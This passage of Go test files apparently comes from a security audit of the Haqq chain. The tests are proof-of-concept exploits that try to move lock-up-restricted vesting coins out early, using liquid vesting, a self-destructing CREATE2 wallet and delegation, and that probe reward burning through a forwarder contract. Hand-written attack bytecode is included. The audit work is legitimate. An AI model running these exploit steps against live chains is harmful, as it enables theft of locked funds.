	outside := sdk.AccAddress(tests.GenerateAddress().Bytes())

	suite.Require().NoError(testutil.FundAccount(s.ctx, s.app.BankKeeper, funder, grantCoins.Add(grantCoins...)))

	start := s.ctx.BlockTime()
	twelveMonths := sdkvesting.Periods{{Length: 12 * month, Amount: grantCoins}}

	// employee: no lock-up, everything vests at the 12-month cliff
	_, err := s.app.VestingKeeper.CreateClawbackVestingAccount(sdk.WrapSDKContext(s.ctx),
		vestingtypes.NewMsgCreateClawbackVestingAccount(funder, employee, start, nil, twelveMonths, false))
	suite.Require().NoError(err)

	// investor: vested from the start, locked up for 12 months
	_, err = s.app.VestingKeeper.CreateClawbackVestingAccount(sdk.WrapSDKContext(s.ctx),
		vestingtypes.NewMsgCreateClawbackVestingAccount(funder, investor, start, twelveMonths, nil, false))
	suite.Require().NoError(err)

	// one month later
	s.ctx = s.ctx.WithBlockTime(start.Add(time.Duration(month) * time.Second)).WithBlockHeight(s.ctx.BlockHeight() + 1)

	// MsgSend goes through the application's message router (the bank message server the chain really uses)
	send := func(from sdk.AccAddress, amt sdkmath.Int) error {
		cacheCtx, write := s.ctx.CacheContext()
		msg := banktypes.NewMsgSend(from, outside, sdk.NewCoins(sdk.NewCoin("aISLM", amt)))
		_, err := s.app.MsgServiceRouter().Handler(msg)(cacheCtx, msg)
		if err == nil {
			write()
		}
		return err
	}

	// sanity: at month 1 neither account can move anything
	suite.Require().Error(send(employee, sdkmath.NewInt(1)), "employee's grant is unvested")
	suite.Require().Error(send(investor, sdkmath.NewInt(1)), "investor's coins are locked up")

	// investor liquidates the locked coins; the liquid token goes to the employee
	_, err = s.app.LiquidVestingKeeper.Liquidate(sdk.WrapSDKContext(s.ctx),
		types.NewMsgLiquidate(investor, employee, sdk.NewCoin("aISLM", grant)))
	suite.Require().NoError(err)

	// employee redeems the liquid token into his own vesting account (a chain that refuses this redeem
	// keeps the locked coins in the liquidvesting module, which is fine as well)
	redeemCtx, writeRedeem := s.ctx.CacheContext() // a failed message leaves nothing behind
	_, redeemErr := s.app.LiquidVestingKeeper.Redeem(sdk.WrapSDKContext(redeemCtx),
		types.NewMsgRedeem(employee, employee, sdk.NewCoin("aLIQUID0", grant)))
	if redeemErr == nil {
		writeRedeem()
	}

	// Until month 12 the employee's account must keep his 1e9 unvested aISLM and, if the redeem went
	// through, the 1e9 redeemed aISLM that carry the investor's 12-month lock-up.
	mustStay := grant
	if redeemErr == nil {
		mustStay = grant.MulRaw(2)
	}
	balanceBefore := s.app.BankKeeper.GetBalance(s.ctx, employee, "aISLM").Amount
	suite.Require().Equal(mustStay.String(), balanceBefore.String())

	sendErr := send(employee, grant)

	balanceAfter := s.app.BankKeeper.GetBalance(s.ctx, employee, "aISLM").Amount
	outsideBalance := s.app.BankKeeper.GetBalance(s.ctx, outside, "aISLM").Amount

	// for the record: what the funder's clawback of the (still wholly unvested) grant leaves behind
	cbCtx, _ := s.ctx.CacheContext()
	_, cbErr := s.app.VestingKeeper.Clawback(sdk.WrapSDKContext(cbCtx), vestingtypes.NewMsgClawback(funder, employee, funder))
	suite.T().Logf("after the employee's transfer: employee=%s outside=%s; after a clawback by the funder (err=%v): employee=%s funder=%s",
		balanceAfter, outsideBalance, cbErr,
		s.app.BankKeeper.GetBalance(cbCtx, employee, "aISLM").Amount, s.app.BankKeeper.GetBalance(cbCtx, funder, "aISLM").Amount)

	suite.Require().True(balanceAfter.GTE(mustStay),
		"month 1 of a 12-month cliff and a 12-month lock-up: account must still hold %s aISLM (1e9 unvested + 1e9 locked up), holds %s; outside account received %s (send error: %v)",
		mustStay, balanceAfter, outsideBalance, sendErr)
}
