package staking_test

import (
	"math/big"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/onsi/gomega"

	"github.com/haqq-network/haqq/precompiles/staking"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

// Hand-assembled EVM byte code used by the demonstration (no solc in the sandbox).
//
// zzWalletRuntime is a minimal "smart wallet". The first calldata byte selects the action:
//
//	0x01 ++ data : CALL the staking precompile (0x…0800) with `data`, bubbling up a failure
//	0x02         : send the whole balance of the wallet to msg.sender
//	0xff         : SELFDESTRUCT(msg.sender)
//	anything else: accept value, do nothing
var (
	zzWalletRuntime = common.FromHex("0x" +
		"600035" + "60f8" + "1c" + // sel := calldata[0]
		"80" + "6001" + "14" + "601b" + "57" + // if sel == 1 goto fwd
		"80" + "6002" + "14" + "6044" + "57" + // if sel == 2 goto sweep
		"60ff" + "14" + "605a" + "57" + // if sel == 0xff goto die
		"00" + // STOP
		// fwd (0x1b):
		"5b" + "50" + "6001" + "36" + "03" + "80" + "6001" + "6000" + "37" + // mem[0..] = calldata[1:]
		"6000" + "6000" + "82" + "6000" + "6000" + "610800" + "5a" + "f1" + // call(gas, 0x800, 0, 0, len, 0, 0)
		"6042" + "57" + // if success goto ok
		"3d" + "6000" + "6000" + "3e" + "3d" + "6000" + "fd" + // revert(returndata)
		// ok (0x42):
		"5b" + "00" +
		// sweep (0x44):
		"5b" + "50" + "6000" + "6000" + "6000" + "6000" + "47" + "33" + "5a" + "f1" + // call(gas, caller, selfbalance, 0,0,0,0)
		"6042" + "57" + "6000" + "6000" + "fd" +
		// die (0x5a):
		"5b" + "33" + "ff")
	// init code: copy the runtime to memory and return it
	zzWalletInit = append(common.FromHex("0x605d80600b6000396000f3"), zzWalletRuntime...)

	// zzFactoryRuntime: CREATE2(value 0, initcode = calldata, salt 0), returns the address, reverts on failure.
	zzFactoryRuntime = common.FromHex("0x" +
		"36" + "6000" + "6000" + "37" + // mem = calldata
		"6000" + "36" + "6000" + "6000" + "f5" + // create2(0, 0, size, 0)
		"80" + "15" + "601b" + "57" + // if addr == 0 goto fail
		"6000" + "52" + "6020" + "6000" + "f3" + // return addr
		"5b" + "6000" + "6000" + "fd")
	zzFactoryInit = append(common.FromHex("0x602180600b6000396000f3"), zzFactoryRuntime...)
)

// zzSendEthTx delivers a real MsgEthereumTx (ante handler + state transition) signed by s.privKey.
func (s *PrecompileTestSuite) zzSendEthTx(to *common.Address, input []byte, value *big.Int) error {
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       to,
		Amount:   value,
		GasLimit: 3_000_000,
		GasPrice: s.app.FeeMarketKeeper.GetBaseFee(s.ctx),
		Input:    input,
	})
	msg.From = s.address.Hex()
	_, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	return err
}

func (s *PrecompileTestSuite) zzBalance(addr common.Address) math.Int {
	return s.app.BankKeeper.GetBalance(s.ctx, addr.Bytes(), utils.BaseDenom).Amount
}

// TestZZHuntLockedCoinsLeaveViaSelfdestruct:
//
// A funder grants 1 ISLM to an address with a ONE YEAR lock-up (vested at once, i.e. "locked" but not "unvested").
// The grantee controls that address through CREATE2: it is the address of a smart wallet the grantee can
// (re)deploy at will. Less than one month later the whole grant has left the account and sits, freely
// spendable, on the grantee's EOA.
func (s *PrecompileTestSuite) TestZZHuntLockedCoinsLeaveViaSelfdestruct() {
	gomega.RegisterTestingT(s.T()) // the suite helpers (NextBlock, SetupApproval) assert with gomega
	s.SetupTest()
	s.NextBlock()

	grant := math.NewInt(1e18)
	lockup := int64(365 * 24 * 3600)
	valAddr := s.validators[0].GetOperator()

	// --- the grantee (s.address) deploys a CREATE2 factory and computes the address of its future wallet
	factoryNonce := s.app.EvmKeeper.GetNonce(s.ctx, s.address)
	s.Require().NoError(s.zzSendEthTx(nil, zzFactoryInit, nil))
	factory := crypto.CreateAddress(s.address, factoryNonce)
	s.NextBlock()
	wallet := crypto.CreateAddress2(factory, [32]byte{}, crypto.Keccak256(zzWalletInit))

	// --- the funder creates the clawback vesting account for that address: 1 ISLM, locked for one year
	funderAddr, funderPriv := testutiltx.NewAccAddressAndKey()
	s.Require().NoError(haqqtestutil.FundAccount(s.ctx, s.app.BankKeeper, funderAddr, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, grant.MulRaw(3)))))
	s.NextBlock()
	vestingStart := s.ctx.BlockTime()
	createMsg := vestingtypes.NewMsgCreateClawbackVestingAccount(
		funderAddr, wallet.Bytes(), vestingStart,
		sdkvesting.Periods{{Length: lockup, Amount: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, grant))}},
		nil, // no vesting periods: vested at once
		false,
	)
	res, err := haqqtestutil.DeliverTx(s.ctx, s.app, funderPriv, nil, signing.SignMode_SIGN_MODE_DIRECT, createMsg)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), res.Log)
	s.NextBlock()

	acc := s.app.AccountKeeper.GetAccount(s.ctx, wallet.Bytes())
	va, ok := acc.(*vestingtypes.ClawbackVestingAccount)
	s.Require().True(ok, "expected a clawback vesting account, got %T", acc)
	s.Require().Equal(grant.String(), va.LockedCoins(s.ctx.BlockTime()).AmountOf(utils.BaseDenom).String(), "the whole grant is locked")
	s.Require().Equal(grant.String(), s.zzBalance(wallet).String())

	// --- the grantee deploys the wallet at the vesting account's address
	s.Require().NoError(s.zzSendEthTx(&factory, zzWalletInit, nil))
	s.NextBlock()
	s.Require().NotEmpty(s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(s.app.EvmKeeper.GetAccountWithoutBalance(s.ctx, wallet).CodeHash)), "wallet code deployed")
	_, ok = s.app.AccountKeeper.GetAccount(s.ctx, wallet.Bytes()).(*vestingtypes.ClawbackVestingAccount)
	s.Require().True(ok, "still a clawback vesting account after the code was deployed")

	// sanity: the wallet cannot simply send the locked coins out
	err = s.zzSendEthTx(&wallet, []byte{0x02}, nil)
	s.Require().Error(err, "locked coins must not be transferable")
	s.NextBlock()
	s.Require().Equal(grant.String(), s.zzBalance(wallet).String())

	// --- the wallet delegates the (vested, locked) grant: allowed, and tracked in DelegatedFree
	s.SetupApproval(s.privKey, wallet, grant.BigInt(), []string{staking.DelegateMsg, staking.UndelegateMsg})
	delegateInput, err := s.precompile.Pack(staking.DelegateMethod, wallet, valAddr.String(), grant.BigInt())
	s.Require().NoError(err)
	s.Require().NoError(s.zzSendEthTx(&wallet, append([]byte{0x01}, delegateInput...), nil))
	s.NextBlock()
	s.Require().Equal("0", s.zzBalance(wallet).String())
	del, found := s.app.StakingKeeper.GetDelegation(s.ctx, wallet.Bytes(), valAddr)
	s.Require().True(found)
	s.Require().Equal(grant.String(), s.app.StakingKeeper.Validator(s.ctx, valAddr).TokensFromShares(del.Shares).TruncateInt().String())

	// From here on these are the grantee's attempts to get the locked coins out: errors are logged, the verdict
	// is the property assertion at the end.

	// --- the wallet self-destructs: x/evm removes the auth account, and with it the lock-up schedule
	err = s.zzSendEthTx(&wallet, []byte{0xff}, nil)
	s.NextBlock()
	s.T().Logf("SELFDESTRUCT tx error: %v; account at the wallet address afterwards: %T", err, s.app.AccountKeeper.GetAccount(s.ctx, wallet.Bytes()))

	// --- the grantee re-deploys the wallet (same CREATE2 address), undelegates and waits for the unbonding period
	err = s.zzSendEthTx(&factory, zzWalletInit, nil)
	s.NextBlock()
	s.T().Logf("re-deployment tx error: %v; account at the wallet address afterwards: %T", err, s.app.AccountKeeper.GetAccount(s.ctx, wallet.Bytes()))
	undelegateInput, err := s.precompile.Pack(staking.UndelegateMethod, wallet, valAddr.String(), grant.BigInt())
	s.Require().NoError(err)
	err = s.zzSendEthTx(&wallet, append([]byte{0x01}, undelegateInput...), nil)
	s.T().Logf("undelegate tx error: %v", err)
	s.NextBlock()
	s.NextBlockAfter(s.app.StakingKeeper.UnbondingTime(s.ctx) + time.Hour)
	s.NextBlock()

	// --- and sweeps the coins to its EOA
	granteeBefore := s.zzBalance(s.address)
	sweepErr := s.zzSendEthTx(&wallet, []byte{0x02}, nil)
	s.NextBlock()
	granteeAfter := s.zzBalance(s.address)

	elapsed := s.ctx.BlockTime().Sub(vestingStart)
	s.T().Logf("elapsed since the grant: %s of a %s lock-up", elapsed, time.Duration(lockup)*time.Second)
	s.T().Logf("sweep error: %v; grantee EOA balance change: %s; wallet balance: %s",
		sweepErr, granteeAfter.Sub(granteeBefore), s.zzBalance(wallet))
	s.Require().Less(elapsed, time.Duration(lockup)*time.Second, "the lock-up has not elapsed")

	// PROPERTY (C08): while the lock-up runs, the locked coins cannot leave the vesting account. The grant
	// (1 ISLM, locked until vestingStart+1y) must still be held by the account: in its balance or in its delegation.
	held := s.zzBalance(wallet)
	if d, found := s.app.StakingKeeper.GetDelegation(s.ctx, wallet.Bytes(), valAddr); found {
		held = held.Add(s.app.StakingKeeper.Validator(s.ctx, valAddr).TokensFromShares(d.Shares).TruncateInt())
	}
	for _, ubd := range s.app.StakingKeeper.GetAllUnbondingDelegations(s.ctx, wallet.Bytes()) {
		for _, e := range ubd.Entries {
			held = held.Add(e.Balance)
		}
	}
	s.Require().True(held.GTE(grant),
		"locked coins left the vesting account before the end of the lock-up: account still holds %s of the %s locked; the grantee's EOA gained %s",
		held, grant, granteeAfter.Sub(granteeBefore))
}
