package distribution_test

// Throw-away triage tests for C02 (distribution precompile reached through a forwarder contract
// that received 1 wei from the origin).

import (
	"bytes"
	"math/big"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/precompiles/distribution"
	"github.com/haqq-network/haqq/precompiles/testutil"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func zzForwarderInit(target uint16) (initCode, runtime []byte) {
	rt := []byte{
		0x36,
		0x60, 0x00,
		0x60, 0x00,
		0x37,
		0x60, 0x00,
		0x60, 0x00,
		0x36,
		0x60, 0x00,
		0x60, 0x00,
		0x61, byte(target >> 8), byte(target),
		0x5a,
		0xf1,
		0x15,
		0x60, 0x00,
		0x57,
		0x00,
		0x5b,
		0x60, 0x00,
		0x60, 0x00,
		0xfd,
	}
	dest := bytes.LastIndexByte(rt, 0x5b)
	rt[22] = byte(dest)
	init := []byte{0x60, byte(len(rt)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, rt...), rt
}

type zzSnap struct {
	supply, origin, feeColl, distr, fwd math.Int
}

func (s *PrecompileTestSuite) zzSnapshot(fwd common.Address) zzSnap {
	bal := func(a sdk.AccAddress) math.Int { return s.app.BankKeeper.GetBalance(s.ctx, a, s.bondDenom).Amount }
	return zzSnap{
		supply:  s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount,
		origin:  bal(s.address.Bytes()),
		feeColl: bal(authtypes.NewModuleAddress(authtypes.FeeCollectorName)),
		distr:   bal(authtypes.NewModuleAddress(distrtypes.ModuleName)),
		fwd:     bal(fwd.Bytes()),
	}
}

func (s *PrecompileTestSuite) zzReport(name string, b, a zzSnap, value int64) (math.Int, math.Int) {
	fee := a.feeColl.Sub(b.feeColl)
	supplyDelta := a.supply.Sub(b.supply)
	originDelta := a.origin.Add(fee).Add(math.NewInt(value)).Sub(b.origin)
	s.T().Logf("[%s] supply before=%s after=%s delta=%s", name, b.supply, a.supply, supplyDelta)
	s.T().Logf("[%s] origin before=%s after=%s fee=%s value=%d => delta excl. gas+value=%s", name, b.origin, a.origin, fee, value, originDelta)
	s.T().Logf("[%s] distrModule delta=%s forwarder delta=%s", name, a.distr.Sub(b.distr), a.fwd.Sub(b.fwd))
	return supplyDelta, originDelta
}

func (s *PrecompileTestSuite) zzDeployForwarder(target uint16) common.Address {
	s.NextBlock()
	initCode, rt := zzForwarderInit(target)
	fwd, err := s.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: initCode})
	s.Require().NoError(err)
	acct := s.app.EvmKeeper.GetAccountWithoutBalance(s.ctx, fwd)
	s.Require().NotNil(acct)
	s.Require().Equal(rt, s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(acct.CodeHash)), "deployed runtime code mismatch")
	return fwd
}

func (s *PrecompileTestSuite) zzCallFwd(fwd common.Address, value int64, method string, args ...interface{}) error {
	var amt *big.Int
	if value != 0 {
		amt = big.NewInt(value)
	}
	_, _, err := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: fwd,
		ContractABI:  s.precompile.ABI,
		PrivKey:      s.privKey,
		MethodName:   method,
		Args:         args,
		Amount:       amt,
		GasLimit:     2_000_000,
	})
	return err
}

// zzAllocateRewards funds the distribution module and allocates `amt` directly to the validator with the distribution keeper.
func (s *PrecompileTestSuite) zzAllocateRewards(valAddr sdk.ValAddress, amt math.Int) {
	err := haqqtestutil.FundModuleAccount(s.ctx, s.app.BankKeeper, distrtypes.ModuleName, sdk.NewCoins(sdk.NewCoin(s.bondDenom, amt)))
	s.Require().NoError(err)
	val := s.app.StakingKeeper.Validator(s.ctx, valAddr)
	s.Require().NotNil(val)
	s.app.DistrKeeper.AllocateTokensToValidator(s.ctx, val, sdk.NewDecCoins(sdk.NewDecCoin(s.bondDenom, amt)))
}

func (s *PrecompileTestSuite) zzRewards(valAddr sdk.ValAddress) math.Int {
	cctx, _ := s.ctx.CacheContext()
	val := s.app.StakingKeeper.Validator(cctx, valAddr)
	del := s.app.StakingKeeper.Delegation(cctx, s.address.Bytes(), valAddr)
	if del == nil {
		return math.ZeroInt()
	}
	endingPeriod := s.app.DistrKeeper.IncrementValidatorPeriod(cctx, val)
	r := s.app.DistrKeeper.CalculateDelegationRewards(cctx, val, del, endingPeriod)
	return r.AmountOf(s.bondDenom).TruncateInt()
}

// Item 6: claimRewards(origin, maxRetrieve) through the forwarder, no grant
func (s *PrecompileTestSuite) TestZZ06ClaimRewardsViaForwarder() {
	fwd := s.zzDeployForwarder(0x0801)
	v0, v1 := s.validators[0].GetOperator(), s.validators[1].GetOperator()
	s.zzAllocateRewards(v0, math.NewInt(3e17))
	s.zzAllocateRewards(v1, math.NewInt(2e17))
	total := s.zzRewards(v0).Add(s.zzRewards(v1))
	s.T().Logf("[claimRewards] pending rewards v0=%s v1=%s", s.zzRewards(v0), s.zzRewards(v1))
	s.Require().True(total.IsPositive())

	b := s.zzSnapshot(fwd)
	s.Require().NoError(s.zzCallFwd(fwd, 1, distribution.ClaimRewardsMethod, s.address, uint32(10)))
	a := s.zzSnapshot(fwd)
	sd, od := s.zzReport("claimRewards/1wei", b, a, 1)

	s.Require().Equal(total.Neg().String(), a.distr.Sub(b.distr).String(), "rewards left the distribution module")
	s.Require().Equal(total.Neg().String(), sd.String(), "HYPOTHESIS: supply decreased by the claimed rewards (burned)")
	s.Require().True(od.IsZero(), "HYPOTHESIS: origin did not receive its rewards")
}

// Item 7: withdrawDelegatorRewards(origin, validator) through the forwarder, no grant
func (s *PrecompileTestSuite) TestZZ07WithdrawDelegatorRewardsViaForwarder() {
	fwd := s.zzDeployForwarder(0x0801)
	v0 := s.validators[0].GetOperator()
	s.zzAllocateRewards(v0, math.NewInt(3e17))
	rewards := s.zzRewards(v0)
	s.T().Logf("[withdrawDelegatorRewards] pending rewards=%s", rewards)
	s.Require().True(rewards.IsPositive())

	b := s.zzSnapshot(fwd)
	s.Require().NoError(s.zzCallFwd(fwd, 1, distribution.WithdrawDelegatorRewardsMethod, s.address, v0.String()))
	a := s.zzSnapshot(fwd)
	sd, od := s.zzReport("withdrawDelegatorRewards/1wei", b, a, 1)

	s.Require().Equal(rewards.Neg().String(), a.distr.Sub(b.distr).String(), "rewards left the distribution module")
	s.Require().Equal(rewards.Neg().String(), sd.String(), "HYPOTHESIS: supply decreased by the withdrawn rewards (burned)")
	s.Require().True(od.IsZero(), "HYPOTHESIS: origin did not receive its rewards")
}

// Item 7 control: same call with 0 wei attached (origin is not journal-dirty)
func (s *PrecompileTestSuite) TestZZ07bWithdrawDelegatorRewardsControl() {
	fwd := s.zzDeployForwarder(0x0801)
	v0 := s.validators[0].GetOperator()
	s.zzAllocateRewards(v0, math.NewInt(3e17))
	rewards := s.zzRewards(v0)
	s.Require().True(rewards.IsPositive())

	b := s.zzSnapshot(fwd)
	s.Require().NoError(s.zzCallFwd(fwd, 0, distribution.WithdrawDelegatorRewardsMethod, s.address, v0.String()))
	a := s.zzSnapshot(fwd)
	sd, od := s.zzReport("withdrawDelegatorRewards/0wei-control", b, a, 0)

	s.Require().True(sd.IsZero(), "control: supply unchanged")
	s.Require().Equal(rewards.String(), od.String(), "control: origin received its rewards")
}

// Item 8: withdrawValidatorCommission(validator = origin's validator) through the forwarder
func (s *PrecompileTestSuite) TestZZ08WithdrawValidatorCommissionViaForwarder() {
	fwd := s.zzDeployForwarder(0x0801)

	// make the origin a validator operator (same helper the package's own specs use)
	valAddr := sdk.ValAddress(s.address.Bytes())
	testutil.CreateValidator(s.ctx, s.T(), s.privKey.PubKey(), *s.app.StakingKeeper.Keeper, math.NewInt(100))
	s.Require().NotNil(s.app.StakingKeeper.Validator(s.ctx, valAddr))

	// outstanding rewards = 3e17 (backed by the module balance), of which 2e17 is accumulated commission
	s.zzAllocateRewards(valAddr, math.NewInt(3e17))
	commission := math.NewInt(2e17)
	s.app.DistrKeeper.SetValidatorAccumulatedCommission(s.ctx, valAddr, distrtypes.ValidatorAccumulatedCommission{
		Commission: sdk.NewDecCoins(sdk.NewDecCoin(s.bondDenom, commission)),
	})

	b := s.zzSnapshot(fwd)
	s.Require().NoError(s.zzCallFwd(fwd, 1, distribution.WithdrawValidatorCommissionMethod, valAddr.String()))
	a := s.zzSnapshot(fwd)
	sd, od := s.zzReport("withdrawValidatorCommission/1wei", b, a, 1)
	left := s.app.DistrKeeper.GetValidatorAccumulatedCommission(s.ctx, valAddr).Commission
	s.T().Logf("[withdrawValidatorCommission/1wei] accumulated commission after=%s", left)

	s.Require().Equal(commission.Neg().String(), a.distr.Sub(b.distr).String(), "commission left the distribution module")
	s.Require().True(left.IsZero(), "commission was withdrawn")
	s.Require().Equal(commission.Neg().String(), sd.String(), "HYPOTHESIS: supply decreased by the withdrawn commission (burned)")
	s.Require().True(od.IsZero(), "HYPOTHESIS: origin did not receive its commission")
}

// Direct withdrawDelegatorRewards by a delegator whose withdraw address is another account.
func (s *PrecompileTestSuite) TestZZ11DirectWithdrawToOtherWithdrawAddress() {
	s.NextBlock()
	v0 := s.validators[0].GetOperator()
	w := sdk.AccAddress(common.HexToAddress("0x00000000000000000000000000000000000ABCDE").Bytes())
	s.Require().NoError(s.app.DistrKeeper.SetWithdrawAddr(s.ctx, s.address.Bytes(), w))
	s.zzAllocateRewards(v0, math.NewInt(3e17))
	rewards := s.zzRewards(v0)
	s.Require().True(rewards.IsPositive())
	none := common.Address{}
	wBefore := s.app.BankKeeper.GetBalance(s.ctx, w, s.bondDenom).Amount
	b := s.zzSnapshot(none)
	_, _, err := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: s.precompile.Address(),
		ContractABI:  s.precompile.ABI,
		PrivKey:      s.privKey,
		MethodName:   distribution.WithdrawDelegatorRewardsMethod,
		Args:         []interface{}{s.address, v0.String()},
		GasLimit:     2_000_000,
	})
	s.Require().NoError(err)
	a := s.zzSnapshot(none)
	wAfter := s.app.BankKeeper.GetBalance(s.ctx, w, s.bondDenom).Amount
	sd, od := s.zzReport("withdrawDelegatorRewards/direct+otherW", b, a, 0)
	s.T().Logf("rewards=%s withdraw-address delta=%s", rewards, wAfter.Sub(wBefore))
	s.Require().Equal(rewards.String(), wAfter.Sub(wBefore).String(), "withdraw address received the rewards")
	s.Require().True(od.IsZero(), "delegator's own balance must not change (excl. gas), delta=%s", od)
	s.Require().True(sd.IsZero(), "supply must be unchanged, delta=%s", sd)
}

// Control: default withdraw address (the delegator itself), direct call.
func (s *PrecompileTestSuite) TestZZ11bDirectWithdrawToSelf() {
	s.NextBlock()
	v0 := s.validators[0].GetOperator()
	s.zzAllocateRewards(v0, math.NewInt(3e17))
	rewards := s.zzRewards(v0)
	none := common.Address{}
	b := s.zzSnapshot(none)
	_, _, err := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: s.precompile.Address(),
		ContractABI:  s.precompile.ABI,
		PrivKey:      s.privKey,
		MethodName:   distribution.WithdrawDelegatorRewardsMethod,
		Args:         []interface{}{s.address, v0.String()},
		GasLimit:     2_000_000,
	})
	s.Require().NoError(err)
	a := s.zzSnapshot(none)
	sd, od := s.zzReport("withdrawDelegatorRewards/direct+self", b, a, 0)
	s.Require().Equal(rewards.String(), od.String(), "delegator received the rewards once")
	s.Require().True(sd.IsZero(), "supply must be unchanged, delta=%s", sd)
}
