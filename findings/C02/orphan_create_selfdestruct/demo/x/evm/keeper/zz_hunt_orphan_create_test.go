package keeper_test

import (
	"math/big"
	"time"

	sdkmath "cosmossdk.io/math"
	"github.com/cometbft/cometbft/crypto/tmhash"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/testutil"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
)

// zzSetupWithOrphanBalance builds the chain like SetupAppWithT does, with one more entry in the bank genesis:
// `amount` aISLM for `orphan`, an address that has NO entry in the auth genesis.
func (suite *KeeperTestSuite) zzSetupWithOrphanBalance(orphan common.Address, amount sdkmath.Int) {
	t := suite.T()
	chainID := utils.TestEdge2ChainID + "-3"

	suite.app = app.EthSetup(false, func(a *app.Haqq, genesis haqqtypes.GenesisState) haqqtypes.GenesisState {
		feemarketGenesis := feemarkettypes.DefaultGenesisState()
		feemarketGenesis.Params.NoBaseFee = true
		genesis[feemarkettypes.ModuleName] = a.AppCodec().MustMarshalJSON(feemarketGenesis)

		var bankGenesis banktypes.GenesisState
		a.AppCodec().MustUnmarshalJSON(genesis[banktypes.ModuleName], &bankGenesis)
		coins := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, amount))
		bankGenesis.Balances = append(bankGenesis.Balances, banktypes.Balance{
			Address: sdk.AccAddress(orphan.Bytes()).String(),
			Coins:   coins,
		})
		bankGenesis.Supply = bankGenesis.Supply.Add(coins...)
		genesis[banktypes.ModuleName] = a.AppCodec().MustMarshalJSON(&bankGenesis)
		return genesis
	})

	priv, err := ethsecp256k1.GenerateKey()
	suite.Require().NoError(err)
	suite.consAddress = sdk.ConsAddress(priv.PubKey().Address())

	header := testutil.NewHeader(
		1, time.Now().UTC(), chainID, suite.consAddress,
		tmhash.Sum([]byte("app")), tmhash.Sum([]byte("validators")),
	)
	suite.ctx = suite.app.NewContext(false, header)

	// the sender of the transactions: a plain EOA
	suite.app.AccountKeeper.SetAccount(suite.ctx, &haqqtypes.EthAccount{
		BaseAccount: authtypes.NewBaseAccount(sdk.AccAddress(suite.address.Bytes()), nil, 0, 0),
		CodeHash:    common.BytesToHash(crypto.Keccak256(nil)).String(),
	})

	// the block proposer must be a known validator (COINBASE)
	valAddr := sdk.ValAddress(suite.address.Bytes())
	validator, err := stakingtypes.NewValidator(valAddr, priv.PubKey(), stakingtypes.Description{})
	suite.Require().NoError(err)
	suite.Require().NoError(suite.app.StakingKeeper.SetValidatorByConsAddr(suite.ctx, validator))
	suite.app.StakingKeeper.SetValidator(suite.ctx, validator)

	stakingParams := stakingtypes.DefaultParams()
	stakingParams.BondDenom = utils.BaseDenom
	suite.Require().NoError(suite.app.StakingKeeper.SetParams(suite.ctx, stakingParams))
	_ = t
}

// TestZZHuntCreateAtFundedAddressThenSelfdestruct:
//
// The bank genesis gives 5 ISLM to H, an address without an auth account. H is the address of the contract
// that the sender's first creation transaction deploys (CREATE address of (sender, nonce 0)).
// The sender deploys the init code `PUSH20 B; SELFDESTRUCT`: the new contract inherits H's balance and pays
// all of it to B when it self-destructs.
//
// Property (C02): the transaction moves 5 ISLM from H to B, the total supply does not change.
func (suite *KeeperTestSuite) TestZZHuntCreateAtFundedAddressThenSelfdestruct() {
	five := sdkmath.NewIntWithDecimal(5, 18)

	nonce := uint64(0)
	h := crypto.CreateAddress(suite.address, nonce)
	b := common.HexToAddress("0x00000000000000000000000000000000000B0B0B")

	suite.zzSetupWithOrphanBalance(h, five)

	bank := suite.app.BankKeeper
	denom := utils.BaseDenom
	bal := func(a common.Address) sdkmath.Int {
		return bank.GetBalance(suite.ctx, a.Bytes(), denom).Amount
	}

	suite.Require().Nil(suite.app.AccountKeeper.GetAccount(suite.ctx, h.Bytes()), "H must not have an auth account")
	suite.Require().Equal(five.String(), bal(h).String())
	suite.Require().Equal("0", bal(b).String())
	supplyBefore := bank.GetSupply(suite.ctx, denom).Amount

	// init code: PUSH20 <B> SELFDESTRUCT
